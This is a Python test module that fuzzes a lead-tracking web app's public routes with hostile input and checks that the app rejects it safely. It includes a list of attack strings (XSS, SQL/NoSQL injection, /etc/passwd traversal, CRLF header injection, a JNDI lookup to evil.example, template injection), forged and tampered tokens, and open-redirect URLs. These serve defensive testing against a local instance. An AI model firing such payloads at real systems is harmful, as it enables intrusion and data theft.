"""Hostile input against every public route: schema-based fuzzing (schemathesis, from the OpenAPI
document the Powertools resolver of ``track`` generates, positive and negative cases) plus
hypothesis strategies for what a schema does not describe: malformed JSON, wrong types, huge
bodies, invalid UTF-8, CRLF in headers and fields, script/HTML, SQL/NoSQL-looking strings, path
traversal, tampered and replayed tokens from real emails, open-redirect attempts, oversized form
fields. Requests go through ``LocalSystem.invoke_http`` (the HTTP API v2 event API Gateway sends).

Abuse of the public surface (issue 15): a bot filling the forms' honeypot (the same answer as a
person, nothing stored or sent); 30 sign-ups from one source network to the double opt-in form
(at most 10 confirmation emails, clear answers, no 5xx); ``purchase``, ``deal_won`` and
``trial_started`` posted to public ``POST /events`` (refused, 4xx) and to ``POST /admin/events``
with the admin credential (202) and without (401/403).

Targets: 0 answers 5xx; 0 stored garbage (a rejected request changes no table); 0 redirects to a
URL that is neither the one sealed in a click token nor a configured form page; the open and
page-view pixels always answer the GIF; no response header carries CR/LF; no HTML page reflects a
script payload unescaped.

``python -m tests.proof.hostile [--examples N]``"""

from __future__ import annotations

import argparse
import base64
import contextlib
import json
import re
import sys
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable
from schemathesis.generation import GenerationMode

from leadflow.local.system import LocalSystem
from leadflow.platform.routes import PUBLIC_ROUTES, resolve
from leadflow.platform.tokens import _b64, _unb64
from tests.proof.faults import LINK, quiet

TABLES = ("contacts", "events", "messages", "idempotency")
GIF = base64.b64decode("R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAI=")[:6]
HOSTILE_STRINGS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE contacts;",
    '{"$gt": ""}',
    "$where: sleep(1000)",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "a\r\nSet-Cookie: pwned=1",
    "x\r\nLocation: https://evil.example/",
    "%0d%0aX-Injected:%201",
    "\u0000\u0001\u007f",
    "\ufeff\u202e\u200b",
    "\U0001d518\U0001d52b\U0001d526 \U0001f9e8",
    "A" * 5000,
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% raw %}",
)
FOREIGN = (
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "https:evil.example",
    "javascript:alert(1)",
)


# the targets: each is a list of the inputs that missed it (none may)
DEFECTS = (
    "server_errors",
    "stored_garbage",
    "foreign_redirects",
    "pixel_not_gif",
    "header_injection",
    "reflected_script",
)


@dataclass
class Tally:
    inputs: int = 0
    by_route: Counter[str] = field(default_factory=Counter)
    statuses: Counter[int] = field(default_factory=Counter)
    server_errors: list[str] = field(default_factory=list)
    stored_garbage: list[str] = field(default_factory=list)
    foreign_redirects: list[str] = field(default_factory=list)
    pixel_not_gif: list[str] = field(default_factory=list)
    header_injection: list[str] = field(default_factory=list)
    reflected_script: list[str] = field(default_factory=list)
    rejected: int = 0


class Prober:
    """Sends one request, checks every target on its answer and on the tables."""

    def __init__(self, system: LocalSystem, sealed_urls: set[str]) -> None:
        self.system = system
        self.ddb = system.client("dynamodb")
        self.sealed = sealed_urls
        forms = json.loads(__import__("os").environ["LEADFLOW_FORMS"])
        self.form_pages = {f[k] for f in forms.values() for k in ("thank_you_url", "error_url")}
        self.tally = Tally()

    def counts(self) -> tuple[int, ...]:
        return tuple(
            int(self.ddb.scan(TableName=f"leadflow-local-{t}", Select="COUNT")["Count"]) for t in TABLES
        )

    def allowed_location(self, location: str) -> bool:
        if location in self.sealed:
            return True
        parts = urlsplit(location)
        if parts.scheme or parts.netloc or not location.startswith("/") or location.startswith("//"):
            return False
        if "\\" in location or any(ord(c) < 32 for c in location):
            return False
        return parts.path in self.form_pages

    def send(
        self, method: str, path: str, *, label: str = "", stores: bool = False, **request: Any
    ) -> dict[str, Any]:
        """One request as ``LocalSystem.invoke_http`` takes it (``query``, ``headers``, ``body``),
        counted under ``label`` (else its method and first path segment). ``stores``: the request
        may legitimately store (a valid event, a sign-up, a page view)."""
        query, body = request.get("query", ""), request.get("body")
        t = self.tally
        t.inputs += 1
        route = label or f"{method} {path.split('/')[1] if '/' in path else path}"
        t.by_route[route] += 1
        before = self.counts()
        what = f"{method} {path[:80]}?{query[:60]} body={str(body)[:80]!r}"
        try:
            reply = self.system.invoke_http(method, path, **request)
        except Exception as exc:  # an unhandled error: API Gateway answers 502
            t.server_errors.append(f"{what}: {type(exc).__name__}: {exc}"[:300])
            t.statuses[502] += 1
            return {"statusCode": 502}
        status = int(reply["statusCode"])
        t.statuses[status] += 1
        out_headers = {str(k).lower(): str(v) for k, v in (reply.get("headers") or {}).items()}
        if status >= 500:
            t.server_errors.append(f"{what}: {status}")
        if any("\r" in v or "\n" in v for v in out_headers.values()) or any(
            "\r" in c or "\n" in c for c in reply.get("cookies") or []
        ):
            t.header_injection.append(what)
        location = out_headers.get("location")
        if 300 <= status < 400 and (location is None or not self.allowed_location(location)):
            t.foreign_redirects.append(f"{what} -> {location}")
        found = resolve(method, path)
        if found is not None and found[0].path in ("/t/o/{token}", "/t/p.gif"):
            raw = base64.b64decode(reply.get("body") or "") if reply.get("isBase64Encoded") else b""
            if status != 200 or not raw.startswith(GIF) or out_headers.get("content-type") != "image/gif":
                t.pixel_not_gif.append(what)
        body_text = str(reply.get("body") or "")
        if "html" in out_headers.get("content-type", "") and "<script>alert(1)</script>" in body_text:
            t.reflected_script.append(what)
        rejected = status >= 400 or (location is not None and "error=" in location)
        invalid_open = path.startswith("/t/o/") and not stores
        if rejected or invalid_open or not stores:
            after = self.counts()
            if rejected:
                t.rejected += 1
            if after != before and (rejected or invalid_open):
                t.stored_garbage.append(f"{what}: {before} -> {after}")
        return reply


def cause(error: str) -> str:
    found = re.search(r": (\w+(?:Error|Exception)): ", error)
    return found.group(1) if found else error.rsplit(": ", 1)[-1]


def real_links(system: LocalSystem) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {"open": [], "click": [], "unsubscribe": []}
    for message in system.outbox():
        for url in LINK.findall(message.get("html") or ""):
            kind = "open" if "/t/o/" in url else "click" if "/t/c/" in url else "unsubscribe"
            found[kind].append(urlsplit(url).path)
    return found


def token_of(path: str) -> str:
    return path.rsplit("/", 1)[1].removesuffix(".gif")


def claims(token: str) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(_unb64(token.split(".")[0]))
    return result


def tampered(token: str, rng: Any) -> list[str]:
    """Mutations of a real token: flipped characters, swapped claims, kind confusion, truncation."""
    body, mac = token.split(".")
    payload = claims(token)
    out = [
        body + "." + mac[:-1] + ("A" if mac[-1] != "A" else "B"),
        body[:-1] + ("A" if body[-1] != "A" else "B") + "." + mac,
        body,
        "." + mac,
        body + ".",
        token + ".x",
        token[: len(token) // 2],
        token.upper(),
        quote(token + "\r\nX: 1"),
    ]
    for change in (
        {"c": "c0000000000000000000000000"},
        {"k": "click", "u": "https://evil.example/"},
        {"k": "unsubscribe"},
        {"u": "https://evil.example/"},
        {"m": "m" * 64},
    ):
        forged = _b64(json.dumps({**payload, **change}, separators=(",", ":"), sort_keys=True).encode())
        out.append(f"{forged}.{mac}")
    out.append(f"{_b64(json.dumps({'alg': 'none'}).encode())}.")
    return [bad for bad in out if not same_bytes(bad, token)]


def same_bytes(candidate: str, token: str) -> bool:
    """A non-canonical base64 spelling of the same payload and MAC (the last character's unused
    bits): not a tampering, the token says and proves the same thing."""
    try:
        return [_unb64(p) for p in candidate.split(".")] == [_unb64(p) for p in token.split(".")]
    except ValueError:
        return False


# the proof's Hypothesis profile: derandomized (the same inputs every run), no example database,
# no deadline, no health check
settings.register_profile(
    "proof", database=None, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck)
)


def reproducible(examples: int) -> settings:
    """The proof's Hypothesis settings with ``examples`` per strategy."""
    return settings(settings.get_profile("proof"), max_examples=examples)


def fuzz_schema(prober: Prober, spec: dict[str, Any], examples: int, tokens: dict[str, list[str]]) -> int:
    """Schemathesis cases for every operation of the OpenAPI document (both generation modes)."""
    schema = schemathesis.openapi.from_dict(spec)
    cases = 0

    def send(case: Any) -> None:
        nonlocal cases
        cases += 1
        operation = case.operation
        kwargs = case.as_transport_kwargs(base_url="http://local")
        parts = urlsplit(kwargs["url"])
        headers = {k: str(v) for k, v in (kwargs.get("headers") or {}).items()}
        body: Any = kwargs.get("data")
        if "json" in kwargs:
            body = json.dumps(kwargs["json"])
            headers.setdefault("Content-Type", "application/json")
        query = urlencode(kwargs.get("params") or {}, doseq=True)
        prober.send(
            kwargs["method"],
            parts.path,  # API Gateway's rawPath: percent-encoded as sent
            query=query or parts.query,
            headers=headers,
            body=body,
            label=f"schema {operation.method.upper()} {operation.path}",
            stores=operation.path in ("/events", "/t/p.gif", "/forms/{form_id}"),
        )

    for result in schema.get_all_operations():
        operation = result.ok()
        for mode in GenerationMode:
            one = reproducible(examples)(given(case=operation.as_strategy(generation_mode=mode))(send))
            # Unsatisfiable: no invalid value exists for this operation (any string is a valid token)
            with contextlib.suppress(Unsatisfiable):
                one()
    return cases


def fuzz_properties(prober: Prober, examples: int, tokens: dict[str, list[str]]) -> None:
    """Hypothesis strategies for what the OpenAPI document does not describe."""
    hostile = st.sampled_from(HOSTILE_STRINGS)
    text = st.one_of(hostile, st.text(max_size=300))
    json_value = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | text,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=4),
        max_leaves=12,
    )
    run_settings = reproducible(examples)

    def body_as(value: Any, how: str) -> bytes | str:
        if how == "json":
            return json.dumps(value, default=str)
        if how == "truncated":
            return json.dumps(value, default=str)[:-1] or "{"
        return str(value)

    @run_settings
    @given(
        payload=st.one_of(
            st.dictionaries(
                st.sampled_from(["type", "email", "visitor_id", "properties", "event_id", "x"]), json_value
            ),
            json_value,
        ),
        how=st.sampled_from(["json", "truncated", "str"]),
        content_type=st.sampled_from(
            ["application/json", "text/plain", "", "application/json; charset=latin-1"]
        ),
    )
    def events(payload: Any, how: str, content_type: str) -> None:
        prober.send(
            "POST",
            "/events",
            headers={"content-type": content_type} if content_type else {},
            body=body_as(payload, how),
            label="POST /events (hypothesis)",
            stores=True,
        )

    @run_settings
    @given(raw=st.binary(max_size=512), path=st.sampled_from(["/events", "/forms/newsletter"]))
    def raw_bytes(raw: bytes, path: str) -> None:
        prober.send(
            "POST",
            path,
            headers={"content-type": "application/json"},
            body=raw + b"\xff\xfe\xc3\x28",
            label=f"POST {path} invalid UTF-8",
        )

    @run_settings
    @given(
        form_id=st.one_of(
            st.sampled_from(["newsletter", "whitepaper", "..", "%2e%2e", "newsletter\r\n"]), text
        ),
        fields=st.dictionaries(
            st.sampled_from(
                [
                    "email",
                    "first_name",
                    "last_name",
                    "consent",
                    "visitor_id",
                    "page_url",
                    "phone",
                    "locale",
                    "timezone",
                ]
            ),
            st.one_of(text, st.text(min_size=17000, max_size=17001)),
        ),
        as_json=st.booleans(),
    )
    def forms(form_id: str, fields: dict[str, str], as_json: bool) -> None:
        fields.setdefault("email", "<script>alert(1)</script>@example.com")
        body = json.dumps(fields) if as_json else urlencode(fields)
        prober.send(
            "POST",
            f"/forms/{quote(form_id, safe='') or 'x'}",
            headers={"content-type": "application/json" if as_json else "application/x-www-form-urlencoded"},
            body=body,
            label="POST /forms (hypothesis)",
            stores=False,  # none of these is a valid sign-up: the email is never valid
        )

    @run_settings
    @given(
        params=st.dictionaries(
            st.sampled_from(["vid", "url", "ref", "title", "utm_source", "utm_campaign", "x"]),
            text,
            max_size=6,
        ),
        cookie=st.one_of(st.none(), text),
    )
    def page_view(params: dict[str, str], cookie: str | None) -> None:
        headers = {"cookie": f"lf_vid={cookie}"} if cookie else {}
        prober.send("GET", "/t/p.gif", query=urlencode(params) + "&url=%ff%fe", headers=headers, stores=True)

    @run_settings
    @given(
        header=st.sampled_from(
            ["user-agent", "x-forwarded-host", "host", "referer", "content-type", "cookie"]
        ),
        value=st.one_of(hostile, text),
        route=st.sampled_from(["click", "open", "unsubscribe"]),
    )
    def headers(header: str, value: str, route: str) -> None:
        path = tokens[route][0]
        prober.send("GET", path, headers={header: value}, stores=True, label=f"GET {route} hostile header")

    for test in (events, raw_bytes, forms, page_view, headers):
        test()


# the kind of token a public route's path takes, by the path before the token
TOKEN_KINDS = {"/t/o/": "open", "/t/c/": "click", "/unsubscribe/": "unsubscribe", "/confirm/": "confirm"}


def token_routes() -> dict[str, tuple[str, str]]:
    """Every public route that takes a token, as the product declares them: its label (the token's
    kind; "unsubscribe page" for the page that asks) -> (method, path with ``{}`` for the token).
    The open pixel is requested as mail clients do, ``<token>.gif``."""
    routes = {}
    for route in PUBLIC_ROUTES:
        prefix = route.path.removesuffix("{token}")
        if prefix == route.path:
            continue
        page = route.method == "GET" and prefix == "/unsubscribe/"
        label = TOKEN_KINDS[prefix] + (" page" if page else "")
        routes[label] = (route.method, prefix + ("{}.gif" if prefix == "/t/o/" else "{}"))
    return routes


def fixed_cases(prober: Prober, tokens: dict[str, list[str]]) -> None:
    """Tampered and replayed tokens, open redirects, huge bodies, path traversal."""
    import random

    rng = random.Random(3)
    routes = token_routes()
    for kind in ("open", "click", "unsubscribe"):
        for path in tokens[kind][:3]:
            for bad in tampered(token_of(path), rng):
                for route, (method, template) in routes.items():
                    prober.send(method, template.format(bad), label=f"tampered {kind} token -> {route}")
    # kind confusion: a real token of one kind on every other route stores nothing there
    for kind in ("open", "click", "unsubscribe"):
        token = token_of(tokens[kind][0])
        for route, (method, template) in routes.items():
            if route.split()[0] != kind:
                prober.send(method, template.format(token), label=f"{kind} token -> {route}")
    # open redirect: the sealed URL wins over anything in the request
    click = tokens["click"][0]
    for foreign in FOREIGN:
        for query in (f"url={quote(foreign)}", f"u={quote(foreign)}", f"next={quote(foreign)}"):
            prober.send("GET", click, query=query, stores=True, label="click with redirect parameter")
        prober.send("GET", f"/t/c/{quote(foreign, safe='')}", label="click with a URL as token")
        prober.send(
            "POST",
            "/forms/newsletter",
            headers={"content-type": "application/x-www-form-urlencoded", "referer": foreign},
            body=urlencode({"email": "not-an-email", "thank_you_url": foreign, "error_url": foreign}),
            label="form with redirect fields",
        )
    # replayed tokens: a second unsubscribe changes nothing, a replayed click goes to the same URL
    unsubscribe = tokens["unsubscribe"][0]
    for _ in range(3):
        prober.send(
            "POST", unsubscribe, body="List-Unsubscribe=One-Click", stores=True, label="replayed unsubscribe"
        )
        prober.send("GET", click, stores=True, label="replayed click")
    # huge and oversized bodies, path traversal in every path parameter
    for size in (64 * 1024 + 1, 1024 * 1024):
        prober.send(
            "POST", "/events", headers={"content-type": "application/json"}, body="{" + " " * size + "}"
        )
        prober.send("POST", "/forms/newsletter", body="email=a%40example.com&first_name=" + "A" * size)
    prober.send(
        "POST", "/forms/newsletter", body="email=a%40example.com&consent=on&first_name=" + "A" * 16000
    )
    for traversal in ("..", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//", "%00", "newsletter%00.json"):
        for template in ("/forms/{}", "/t/c/{}", "/t/o/{}.gif", "/unsubscribe/{}", "/confirm/{}"):
            method = "POST" if template.startswith("/forms") else "GET"
            prober.send(method, template.format(traversal), label="path traversal")


def _email_item(system: LocalSystem, email: str) -> bool:
    return "Item" in system.client("dynamodb").get_item(
        TableName="leadflow-local-contacts", Key={"pk": {"S": f"EMAIL#{email}"}, "sk": {"S": "EMAIL"}}
    )


def _mails_to(system: LocalSystem, domain: str) -> int:
    return sum(1 for m in system.outbox() if any(domain in str(to) for to in m["to"]))


def abuse_cases(prober: Prober) -> dict[str, Any]:
    """The abuse cases of issue 15, through the prober (so 5xx, redirects and stored garbage are
    checked on each request as well)."""
    system = prober.system
    form = {"content-type": "application/x-www-form-urlencoded"}
    fields = {"first_name": "Ada", "consent": "on"}
    # honeypot: the same answer as a person's post; nothing stored, nothing sent

    def newsletter_post(who: str, email: str, website_url: str, stores: bool = False) -> dict[str, Any]:
        """A newsletter sign-up whose hidden ``website_url`` field is filled in as ``who`` fills it."""
        body = urlencode(fields | {"email": email, "website_url": website_url})
        return prober.send(
            "POST",
            "/forms/newsletter",
            headers=form,
            body=body,
            label=f"abuse: honeypot ({who})",
            stores=stores,
        )

    person = newsletter_post("person", "person@hp-person.example", "", stores=True)
    bot = newsletter_post("bot", "victim@hp-victim.example", "https://spam.example")
    system.settle()
    answer = (person["statusCode"], (person.get("headers") or {}).get("Location"))
    honeypot = {
        "same_answer": answer == (bot["statusCode"], (bot.get("headers") or {}).get("Location")),
        "answer": f"{answer[0]} {answer[1]}",
        "stored": _email_item(system, "victim@hp-victim.example"),
        "emails_to_victim": _mails_to(system, "hp-victim.example"),
        "emails_to_person": _mails_to(system, "hp-person.example"),
    }
    # 30 sign-ups from one source network to the double opt-in form
    answers: Counter[str] = Counter()
    for i in range(30):
        reply = system.invoke_http(
            "POST",
            "/forms/whitepaper",
            headers=form,
            body=urlencode(fields | {"email": f"stranger{i}@bombed.example"}),
            source_ip=f"198.51.100.{10 + i}",
        )
        prober.tally.inputs += 1
        prober.tally.statuses[int(reply["statusCode"])] += 1
        answers[f"{reply['statusCode']} {(reply.get('headers') or {}).get('Location', '')}"] += 1
    system.settle()
    budget = {
        "answers": dict(answers),
        "server_errors": sum(n for a, n in answers.items() if a.startswith("5")),
        "contacts": sum(1 for i in range(30) if _email_item(system, f"stranger{i}@bombed.example")),
        "emails": _mails_to(system, "bombed.example"),
    }
    # business events: refused publicly, accepted from a server with credentials
    events: dict[str, dict[str, int]] = {}
    json_headers = {"content-type": "application/json"}
    for kind in ("purchase", "deal_won", "trial_started"):
        body = json.dumps(
            {"type": kind, "email": f"{kind}@forged.example", "properties": {"revenue": 100000}}
        )
        public = prober.send(
            "POST", "/events", headers=json_headers, body=body, label=f"abuse: public {kind}"
        )
        without = prober.send(
            "POST", "/admin/events", headers=json_headers, body=body, label="abuse: admin, no key"
        )
        wrong = prober.send(
            "POST",
            "/admin/events",
            headers=json_headers | {"authorization": "Bearer not-the-key"},
            body=body,
            label="abuse: admin, wrong key",
        )
        admin = prober.send(
            "POST",
            "/admin/events",
            headers=json_headers | {"authorization": f"Bearer {system.admin_key}"},
            body=json.dumps({"type": kind, "email": f"{kind}@server.example", "properties": {"revenue": 10}}),
            label="abuse: admin with credentials",
            stores=True,
        )
        events[kind] = {
            "public": int(public["statusCode"]),
            "admin_without_credentials": int(without["statusCode"]),
            "admin_wrong_credentials": int(wrong["statusCode"]),
            "admin_with_credentials": int(admin["statusCode"]),
        }
    system.settle()
    forged_stored = sum(1 for kind in events if _email_item(system, f"{kind}@forged.example"))
    ok = (
        honeypot["same_answer"]
        and not honeypot["stored"]
        and honeypot["emails_to_victim"] == 0
        and honeypot["emails_to_person"] == 1
        and budget["server_errors"] == 0
        and budget["emails"] <= 10
        and budget["contacts"] == budget["emails"]
        and set(answers) <= {"303 /thanks", "303 /?error=rate_limited"}
        and forged_stored == 0
        and all(400 <= e["public"] < 500 for e in events.values())
        and all(e["admin_without_credentials"] in (401, 403) for e in events.values())
        and all(e["admin_wrong_credentials"] in (401, 403) for e in events.values())
        and all(e["admin_with_credentials"] == 202 for e in events.values())
    )
    return {
        "honeypot": honeypot,
        "budget": budget,
        "events": events,
        "forged_stored": forged_stored,
        "ok": ok,
    }


def run(examples: int = 60, verbose: bool = True) -> dict[str, Any]:
    quiet()
    with LocalSystem(background_pump=False) as system:
        for i in range(2):
            reply = system.invoke_http(
                "POST",
                "/forms/newsletter",
                headers={"content-type": "application/json"},
                body=json.dumps({"email": f"target-{i}@example.com", "first_name": "T", "consent": True}),
            )
            assert reply["statusCode"] == 201, reply
        system.settle()
        tokens = real_links(system)
        sealed = {str(claims(token_of(p)).get("u")) for p in tokens["click"]}
        prober = Prober(system, sealed)
        spec = json.loads(system.modules["track"].app.get_openapi_json_schema())
        schema_cases = fuzz_schema(prober, spec, examples, tokens)
        fuzz_properties(prober, examples, tokens)
        fixed_cases(prober, tokens)
        abuse = abuse_cases(prober)
        t = prober.tally
        result: dict[str, Any] = {
            "inputs": t.inputs,
            "schemathesis_cases": schema_cases,
            "operations_in_openapi": sum(len(v) for v in spec["paths"].values()),
            "rejected": t.rejected,
            **{defect: len(getattr(t, defect)) for defect in DEFECTS},
            "server_error_kinds": dict(Counter(cause(e) for e in t.server_errors)),
            "statuses": {str(k): v for k, v in sorted(t.statuses.items())},
            "by_route": dict(sorted(t.by_route.items())),
            "abuse": abuse,
            "examples": {defect: getattr(t, defect)[:5] for defect in DEFECTS if getattr(t, defect)},
        }
    result["ok"] = result["abuse"]["ok"] and all(result[defect] == 0 for defect in DEFECTS)
    if verbose:
        report(result)
    return result


def report(result: dict[str, Any]) -> None:
    print(
        f"hostile: {result['inputs']} inputs ({result['schemathesis_cases']} schemathesis cases over"
        f" {result['operations_in_openapi']} OpenAPI operations), {result['rejected']} rejected"
    )
    print(
        f"  5xx {result['server_errors']}, stored garbage {result['stored_garbage']}, foreign redirects"
        f" {result['foreign_redirects']}, pixel not GIF {result['pixel_not_gif']}, header injection"
        f" {result['header_injection']}, reflected script {result['reflected_script']}"
    )
    print(f"  statuses {result['statuses']}; 5xx by cause {result['server_error_kinds']}")
    abuse = result["abuse"]
    hp, budget = abuse["honeypot"], abuse["budget"]
    print(
        f"  honeypot: same answer {hp['same_answer']} ({hp['answer']}), bot stored {hp['stored']},"
        f" emails to the bot's address {hp['emails_to_victim']} (to the person {hp['emails_to_person']})"
    )
    print(
        f"  30 double opt-in sign-ups from one network: answers {budget['answers']}, contacts"
        f" {budget['contacts']}, emails {budget['emails']}, 5xx {budget['server_errors']}"
    )
    for kind, codes in abuse["events"].items():
        print(
            f"  {kind}: public {codes['public']}, admin without credentials"
            f" {codes['admin_without_credentials']} / wrong {codes['admin_wrong_credentials']},"
            f" with credentials {codes['admin_with_credentials']}"
        )
    for kind, items in result["examples"].items():
        for item in items:
            print(f"  {kind}: {item}")
    print(f"  {'OK' if result['ok'] else 'FAILED'}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.proof.hostile")
    parser.add_argument("--examples", type=int, default=60, help="hypothesis examples per strategy")
    args = parser.parse_args(argv)
    result = run(examples=args.examples)
    print(json.dumps(result, default=str))
    return 0 if result["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
